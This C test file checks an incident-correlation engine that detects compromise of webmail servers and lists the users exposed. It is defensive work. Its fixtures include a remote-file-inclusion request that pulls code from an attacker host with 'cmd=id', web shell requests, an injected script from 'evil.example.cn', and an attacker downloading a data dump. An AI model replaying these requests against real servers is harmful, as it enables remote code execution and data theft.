	struct bs_results *r = correlate(A, &cfg);
	ok(!(r->servers[0].signals & (1u << BS_SIG_TAMPERED_CONTENT)), "one reader's message link: no tampering");
	ok(r->servers[1].signals & (1u << BS_SIG_TAMPERED_CONTENT), "a link on the pages of six visitors: tampering");
	is_int(r->servers[1].tamper_start, T(2, 9, 1, 2), "its window: the first page with the link");
	ok(r->servers[2].signals & (1u << BS_SIG_TAMPERED_CONTENT), "a script, one client: tampering");
	bs_results_free(r);
	cfg.th.tamper_weak_clients = 1;
	r = correlate(A, &cfg);
	ok(r->servers[0].signals & (1u << BS_SIG_TAMPERED_CONTENT), "with tamper-weak-clients=1 the reader's link counts");
	bs_results_free(r);
	bs_agg_free(A);

	uint32_t fwd[BS_REF_CLIENTS] = { 0 }, rev[BS_REF_CLIENTS] = { 0 };
	static const uint32_t hashes[] = { 90, 7, 0, 33, 7, 1, 500, 12, 90 };
	size_t nh = sizeof hashes / sizeof *hashes;
	for (size_t i = 0; i < nh; i++) {
		bs_refrec_add_client(fwd, hashes[i]);
		bs_refrec_add_client(rev, hashes[nh - 1 - i]);
	}
	ok(memcmp(fwd, rev, sizeof fwd) == 0 && fwd[0] == 1 && fwd[1] == 7 && fwd[2] == 12 && fwd[3] == 33,
	   "clients: the four smallest distinct hashes (0 as 1), whatever the order");
}

/* A login answered by the inbox page (PHP: the session the login page
 * opened, no new cookie): the login request's token-like cookie becomes
 * the user's session, so pages served with it count for that user; a
 * short shared cookie (lang=en) is no session. */
static void test_session_from_login_cookie(struct bs_engine_config *base_cfg)
{
	struct bs_engine_config cfg = three_servers(base_cfg);
	uint64_t txn = plain_pages(2, 1);
	const char *cookies[2] = { "lang=en; PHPSESSID=0123456789abcdef0123456789",
	                           "lang=en; PHPSESSID=fedcba9876543210fedcba9876" };
	const char *users[2] = { "alice@example.net", "bob@example.net" };
	for (int u = 0; u < 2; u++) {
		struct bs_event e;
		base(&e, BS_EV_HTTP, T(3, 10, u, 0), u ? "198.18.9.2" : "198.18.9.1", SRV3[2]);
		e.u.http.phase = BS_HTTP_COMPLETE;
		e.u.http.txn_id = txn++;
		e.u.http.method = S("POST");
		e.u.http.uri = S("/mail/login.php");
		e.u.http.status = 200;
		e.u.http.login_user = S(users[u]);
		e.u.http.login_answer = BS_LOGIN_ANSWER_SUCCESS;
		e.u.http.cookie = S(cookies[u]);
		bs_agg_sink(A, &e);
	}
	/* wm3 tampered: a script only its copy has, served to alice's session */
	struct bs_event e;
	get_event(&e, BS_HTTP_COMPLETE, T(3, 10, 5, 0), "198.18.9.1", SRV3[2], "/mail/showmail.php", txn++);
	e.u.http.status = 200;
	e.u.http.resp_content_type = S("text/html");
	e.u.http.cookie = S(cookies[0]);
	e.u.http.refs[0] = S("http://evil.example.cn/x.js");
	e.u.http.nrefs = 1;
	bs_agg_sink(A, &e);
	/* and an exploit, so that wm3 is compromised and its pages judged */
	http(T(3, 9, 0, 0), "203.0.113.66", SRV3[2], "GET", "/mail/parse.php?file=http://203.0.113.66/x.txt?&cmd=id", 200,
	     NULL, NULL, NULL, NULL, true, txn++);
	http(T(3, 9, 1, 0), "203.0.113.66", SRV3[2], "GET", "/mail/tmp/.c.php?cmd=id", 200, NULL, NULL, NULL, NULL, true,
	     txn++);
	struct bs_results *r = correlate(A, &cfg);
	is_int(r->servers[2].verdict, BS_V_COMPROMISED, "session from the login's cookie: wm3 compromised");
	ok(cat(find(r, "alice@example.net"), BS_CAT_TROJAN_PAGE_SERVED),
	   "a login answered by its page: the request's PHPSESSID is alice's session, the tampered page hers");
	ok(!cat(find(r, "bob@example.net"), BS_CAT_TROJAN_PAGE_SERVED), "lang=en, which both sent, is nobody's session");
	bs_results_free(r);
	bs_agg_free(A);
}

/* A request, the addresses of its answer's body, then its answer. */
static void fetch_with_addrs(bs_time ts, const char *client, const char *srv, const char *uri, const char *tag, int n,
                             uint64_t txn)
{
	struct bs_event e;
	get_event(&e, BS_HTTP_REQUEST, ts, client, srv, uri, txn);
	bs_agg_sink(A, &e);
	for (int i = 0; i < n; i++) {
		char a[64];
		snprintf(a, sizeof a, "%s%d@example.org", tag, i);
		addr(ts, client, srv, BS_ADDR_HTTP_RESP_BODY, txn, a, true);
	}
	e.u.http.phase = BS_HTTP_COMPLETE;
	e.u.http.status = 200;
	e.u.http.resp_content_type = S("text/plain");
	bs_agg_sink(A, &e);
}

/* The attacker downloads the dump it left in the web root: the addresses
 * in it are exfiltrated; the same kind of file fetched by anyone else
 * exposes nobody. */
static void test_dump_download(struct bs_engine_config *base_cfg)
{
	struct bs_engine_config cfg = three_servers(base_cfg);
	uint64_t txn = plain_pages(2, 1);
	http(T(3, 9, 0, 0), "203.0.113.66", SRV3[2], "GET", "/mail/parse.php?file=http://203.0.113.66/x.txt?&cmd=id", 200,
	     NULL, NULL, NULL, NULL, true, txn++);
	http(T(3, 9, 1, 0), "203.0.113.66", SRV3[2], "GET", "/mail/tmp/.c.php?cmd=id", 200, NULL, NULL, NULL, NULL, true,
	     txn++);
	fetch_with_addrs(T(3, 9, 5, 0), "203.0.113.66", SRV3[2], "/mail/tmp/.d.txt", "taken", 3, txn++);
	fetch_with_addrs(T(3, 9, 6, 0), "198.18.2.1", SRV3[2], "/mail/help/list.txt", "listed", 3, txn++);
	struct bs_results *r = correlate(A, &cfg);
	is_int(r->servers[2].verdict, BS_V_COMPROMISED, "dump download: wm3 compromised");
	ok(cat(find(r, "taken0@example.org"), BS_CAT_EXFILTRATED) && cat(find(r, "taken2@example.org"), BS_CAT_EXFILTRATED),
	   "the dump the attacker downloaded: its addresses exfiltrated");
	ok(!find(r, "listed0@example.org"), "a text file another client fetched: nobody exposed");
	bs_results_free(r);
	bs_agg_free(A);
	static const struct { const char *path; bool data; } files[] = { { "/mail/tmp/.d.sql.gz", true },
		{ "/x/DUMP.TXT", true }, { "/robots.txt", false }, { "/mail/index.php", false },
		{ "/.well-known/security.txt", false } };
	int right = 0;
	for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
		bool script, data;
		bs_detect_path_kind(S(files[i].path), &script, &data);
		right += data == files[i].data;
	}
	is_int(right, sizeof files / sizeof *files, "data files: dumps, not robots.txt nor scripts");
}

int main(void)
{
	struct bs_engine_config cfg = { 0 };
	bs_thresholds_default(&cfg.th);
	struct bs_fleet_entry fleet[5] = {
		{ "wm1", IP("10.0.1.11"), "webmail" }, { "wm2", IP("10.0.1.12"), "webmail" },
		{ "wm3", IP("10.0.1.13"), "webmail" }, { "db1", IP("10.0.2.10"), "db" },
		{ "backup1", IP("10.0.2.50"), "backup" },
	};
	cfg.fleet = fleet;
	cfg.nfleet = 5;
	char *local[1] = { "example.net" };
	cfg.local_domains = local;
	cfg.nlocal = 1;

	test_host_ip_text();
	test_addr_lookaside();
	test_fold_ties_by_text();
	test_bare_logins();
	test_exfil_by_addresses(&cfg);
	test_tamper_links(&cfg);
	test_session_from_login_cookie(&cfg);
	test_dump_download(&cfg);
	A = bs_agg_new();
	scenario(0);
	struct bs_results *r = correlate(A, &cfg);
	is_int(r->nservers, 3, "three webmail servers");
	is_str(r->servers[0].name, "wm1", "sorted by name");
	is_int(r->servers[2].verdict, BS_V_COMPROMISED, "wm3 compromised");
	is_int(r->servers[0].verdict, BS_V_CLEAN, "wm1 clean despite the backup and the big address book");
	is_int(r->servers[1].verdict, BS_V_CLEAN, "wm2 clean despite the brute force");
	ok(r->servers[1].signals & (1u << BS_SIG_AUTH_ANOMALY), "brute force is an auth anomaly on wm2");
	ok(!(r->servers[0].signals & (1u << BS_SIG_EXFILTRATION)), "internal backup is not exfiltration");
	ok(!(r->servers[0].signals & (1u << BS_SIG_DB_BULK_READ)), "per-user big query is not a bulk read");
	ok(!(r->servers[0].signals & (1u << BS_SIG_TAMPERED_CONTENT)), "fleet-wide deployment is not tampering");
	unsigned sig = r->servers[2].signals;
	ok(sig & (1u << BS_SIG_WEBSHELL), "webshell signal");
	ok(sig & (1u << BS_SIG_EXPLOIT_REQUEST), "exploit signal");
	ok(sig & (1u << BS_SIG_DB_BULK_READ), "bulk read signal");
	ok(sig & (1u << BS_SIG_EXFILTRATION), "exfiltration signal");
	ok(sig & (1u << BS_SIG_TAMPERED_CONTENT), "tampered content signal");
	ok(sig & (1u << BS_SIG_FOREIGN_DESTINATION), "foreign destination signal");
	is_int(r->servers[2].window_start, T(4, 17, 31, 2), "window starts at the exploit");
	is_int(r->servers[2].window_end, T(7, 13, 0, 0), "window ends at the last exfiltration");
	is_int(r->servers[2].tamper_start, T(6, 9, 20, 3), "tamper start");
	is_int(r->servers[2].tamper_end, T(8, 14, 20, 3), "tamper end");
	char ips[256] = "";
	for (size_t i = 0; i < r->servers[2].nattacker_ips; i++) {
		char b[BS_IP_STRLEN];
		bs_ip_format(&r->servers[2].attacker_ips[i], b, sizeof b);
		strcat(ips, i ? ";" : "");
		strcat(ips, b);
	}
	is_str(ips, "192.0.2.200;198.51.100.77;203.0.113.66", "attacker addresses (not the scanner, not the brute forcer)");

	const struct bs_exposed *e;
	e = find(r, "alice@example.net");
	ok(cat(e, BS_CAT_LOGIN) && cat(e, BS_CAT_CREDENTIALS_AT_RISK) && cat(e, BS_CAT_EXFILTRATED) &&
	   cat(e, BS_CAT_TROJAN_PAGE_SERVED), "alice: login, credentials, exfiltrated, trojan");
	ok(e && e->risk == BS_RISK_HIGH && e->customer, "alice: high risk customer");
	ok(e && e->actions == ((1u << BS_ACT_RESET_PASSWORD) | (1u << BS_ACT_MALWARE_CHECK) | (1u << BS_ACT_NOTIFY)), "alice: all three actions");
	e = find(r, "old.user@legacy.example");
	ok(e && e->categories == ((1u << BS_CAT_EXFILTRATED) | (1u << BS_CAT_ADDRESSBOOK)), "old address: exfiltrated from the address book only");
	ok(e && e->risk == BS_RISK_LOW && !e->customer, "old address: low risk outsider");
	e = find(r, "ghost@example.net");
	ok(e && e->risk == BS_RISK_MEDIUM && e->customer, "a local-domain address in the dump is a medium-risk customer");
	e = find(r, "friend@example.org");
	ok(cat(e, BS_CAT_ADDRESSBOOK), "address book entry from the app's query");
	e = find(r, "partner@example.com");
	ok(e && e->categories == (1u << BS_CAT_SENT_TO), "recipient of webmail: sent_to");
	e = find(r, "newsletter@example.org");
	ok(e && e->categories == (1u << BS_CAT_RECEIVED_FROM), "sender to a webmail user: received_from");
	ok(find(r, "payload.only@example.com") && cat(find(r, "payload.only@example.com"), BS_CAT_EXFILTRATED), "address in the exfiltrated payload");
	ok(find(r, "flagged.payload@example.com") && find(r, "flagged.payload@example.com")->categories ==
	   find(r, "payload.only@example.com")->categories, "an address flagged normal counts as one normalized");
	ok(find(r, "admin@example.net") && cat(find(r, "admin@example.net"), BS_CAT_EXFILTRATED), "address in web shell output");
	e = find(r, "x1@example.org");
	ok(e && e->categories == (1u << BS_CAT_ADDRESSBOOK) && e->risk == BS_RISK_LOW,
	   "the big address book's entries are exposed as address-book entries only");
	ok(!find(r, "root@example.net"), "brute-forced user name that never logged in is not exposed");
	ok(!find(r, "drop@mailbox.example"), "exfiltration drop address is not a victim");
	ok(r->ntimeline > 0, "timeline has rows");
	bool have_ws = false;
	for (size_t i = 0; i < r->ntimeline; i++)
		if (strcmp(r->timeline[i].event, "window_start") == 0 && r->timeline[i].ts == T(4, 17, 31, 2))
			have_ws = true;
	ok(have_ws, "timeline marks the window start");
	for (size_t i = 1; i < r->ntimeline; i++)
		if (r->timeline[i - 1].ts > r->timeline[i].ts) {
			ok(0, "timeline sorted by time");
			break;
		}

	/* merge: the same events split over two aggregates, merged both ways */
	struct bs_agg *whole = A;
	struct bs_agg *x = bs_agg_new(), *y = bs_agg_new();
	bs_agg_merge(x, whole);
	struct bs_agg *empty = bs_agg_new();
	bs_agg_merge(y, empty); /* merging an empty aggregate first changes nothing */
	bs_agg_free(empty);
	bs_agg_merge(y, whole);
	struct bs_results *rx = correlate(x, &cfg), *ry = correlate(y, &cfg);
	is_int(rx->nexposed, r->nexposed, "merge keeps every exposed address");
	is_int(ry->ntimeline, r->ntimeline, "merge keeps every timeline row");
	bool same = rx->nexposed == ry->nexposed;
	for (size_t i = 0; same && i < rx->nexposed; i++)
		same = strcmp(rx->exposed[i].address, ry->exposed[i].address) == 0 &&
		       rx->exposed[i].categories == ry->exposed[i].categories;
	ok(same, "merge order does not change the exposure");

	/* clean fleet: without the attack nothing is exposed */
	struct bs_agg *clean = bs_agg_new();
	A = clean;
	ref_counter = 0;
	for (int d = 1; d <= 3; d++)
		for (int s = 0; s < 3; s++)
			http(T(d, 10, 0, s), "198.18.0.1", SERVERS[s], "POST", "/mail/login.php", 302, USERS[0], "sid=1", NULL, NULL, false, (uint64_t)(d * 10 + s));
	struct bs_results *rc = correlate(clean, &cfg);
	is_int(rc->nexposed, 0, "clean fleet: no exposed address");
	is_int(rc->servers[2].verdict, BS_V_CLEAN, "clean fleet: clean verdict");

	/* negatives: events that look like each signal but are not */
	struct bs_agg *neg = bs_agg_new();
	A = neg;
	ref_counter = 0;
	uint64_t t2 = 5000;
	for (int d = 1; d <= 3; d++)
		for (int s = 0; s < 3; s++) {
			/* an ordinary page everywhere, so that paths can be compared */
			http(T(d, 9, 0, s), "198.18.0.2", SERVERS[s], "GET", "/mail/index.php", 200, NULL, NULL, NULL, NULL, false, t2++);
			/* the application's own unfiltered statement, from every server */
			const char *row[1] = { "settings@example.net" };
			query(T(d, 9, 1, s), SERVERS[s], t2++, "SELECT * FROM Settings", row, 1, 500);
			/* an update mirror that every server contacts */
			flow(T(d, 4, 0, s), T(d, 4, 1, s), SERVERS[s], "203.0.113.200", 80, 40000, 9000000);
			/* a few failed logins, below the brute-force threshold */
			for (int i = 0; i < 10; i++)
				http(T(d, 10, 0, i), "198.51.100.50", SERVERS[s], "POST", "/mail/login.php", 200, "alice@example.net", NULL, NULL, NULL, false, t2++);
		}
	/* a script only wm1 serves, reached without commands (a rare page, not a shell) */
	http(T(2, 11, 0, 0), "198.18.0.3", SERVERS[0], "GET", "/mail/rare.php?id=5&Folder=Inbox", 200, NULL, NULL, NULL, NULL, false, t2++);
	/* a modest outbound transfer to an outside host, below the exfiltration minimum */
	flow(T(2, 12, 0, 0), T(2, 12, 0, 5), SERVERS[1], "192.0.2.55", 443, 60000, 1000);
	/* a large outbound transfer to an internal host of the inventory */
	flow(T(2, 13, 0, 0), T(2, 14, 0, 0), SERVERS[2], "10.0.2.10", 3306, 80000000, 1000);
	struct bs_results *rneg = correlate(neg, &cfg);
	for (size_t i = 0; i < rneg->nservers; i++) {
		is_int(rneg->servers[i].signals, 0, "decoys only: no signal on %s", rneg->servers[i].name);
		is_int(rneg->servers[i].verdict, BS_V_CLEAN, "decoys only: %s clean", rneg->servers[i].name);
	}
	is_int(rneg->nexposed, 0, "decoys only: nothing exposed");
	bs_results_free(rneg);
	bs_agg_free(neg);

	/* access logs alone: a shell driven by a header or the raw body is
	 * only `POST /x.php 200`; the attacker's successful requests to a
	 * script only wm3 serves are use of the access, a new shell path
	 * continues it; a 404 after the clean-up, the attacker's request to a
	 * page every server serves and a user's POST to a script are not */
	struct bs_agg *logs = bs_agg_new();
	A = logs;
	ref_counter = 0;
	uint64_t t3 = 9000;
	for (int d = 1; d <= 12; d++)
		for (int s = 0; s < 3; s++) {
			logged_http(T(d, 9, 0, s), "198.18.0.2", SERVERS[s], "GET", "/mail/index.php", 200, t3++);
			logged_http(T(d, 9, 1, s), "198.18.0.2", SERVERS[s], "POST", "/mail/login.php", 200, t3++);
		}
	logged_http(T(4, 17, 31, 2), "203.0.113.66", SERVERS[2], "GET", "/mail/parse.php?file=http://203.0.113.66/x.txt?&cmd=id", 200, t3++);
	logged_http(T(4, 17, 32, 0), "203.0.113.66", SERVERS[2], "POST", "/mail/tmp/.cache.php", 200, t3++);
	logged_http(T(6, 16, 31, 7), "203.0.113.66", SERVERS[2], "POST", "/mail/tmp/.cache.php", 404, t3++);
	logged_http(T(6, 16, 41, 7), "203.0.113.66", SERVERS[2], "POST", "/mail/imgs/.s.php", 200, t3++);
	logged_http(T(9, 14, 31, 7), "203.0.113.66", SERVERS[2], "POST", "/mail/imgs/.s.php", 200, t3++);
	logged_http(T(10, 19, 31, 7), "203.0.113.66", SERVERS[2], "GET", "/mail/imgs/.s.php", 404, t3++);
	logged_http(T(11, 8, 0, 0), "203.0.113.66", SERVERS[2], "POST", "/mail/login.php", 200, t3++);
	logged_http(T(12, 8, 0, 0), "198.18.0.2", SERVERS[2], "POST", "/mail/imgs/.s.php", 200, t3++);
	struct bs_results *rl = correlate(logs, &cfg);
	ok(rl->servers[2].signals & (1u << BS_SIG_WEBSHELL), "access logs alone: the web shell is found");
	is_int(rl->servers[2].window_start, T(4, 17, 31, 2), "access logs alone: the window opens at the exploit");
	is_int(rl->servers[2].window_end, T(9, 14, 31, 7),
	       "access logs alone: the window ends with the attacker's last successful request to the new shell path");
	is_int(rl->servers[0].window_end, BS_TIME_NONE, "access logs alone: no window on a clean server");
	bs_results_free(rl);
	bs_agg_free(logs);

	/* no data for a server of the inventory */
	struct bs_fleet_entry fleet2[2] = { { "wm1", IP("10.0.1.11"), "webmail" }, { "wm9", IP("10.0.1.99"), "webmail" } };
	struct bs_engine_config cfg2 = cfg;
	cfg2.fleet = fleet2;
	cfg2.nfleet = 2;
	struct bs_results *rn = correlate(clean, &cfg2);
	is_int(rn->servers[1].verdict, BS_V_NO_DATA, "a server without events is no_data");

	/* discovery without an inventory */
	struct bs_engine_config cfg3 = cfg;
	cfg3.fleet = NULL;
	cfg3.nfleet = 0;
	struct bs_results *rd = correlate(whole, &cfg3);
	is_int(rd->nservers, 3, "discovery finds the three servers");
	ok(strstr(rd->fleet_origin, "discovered") != NULL, "discovery is reported");
	test_dns_serving(&cfg);
	test_fleet_sourced_failures(&cfg);

	bs_results_free(r); bs_results_free(rx); bs_results_free(ry); bs_results_free(rc);
	bs_results_free(rn); bs_results_free(rd);
	bs_agg_free(whole); bs_agg_free(x); bs_agg_free(y); bs_agg_free(clean);
	return tap_done();
}
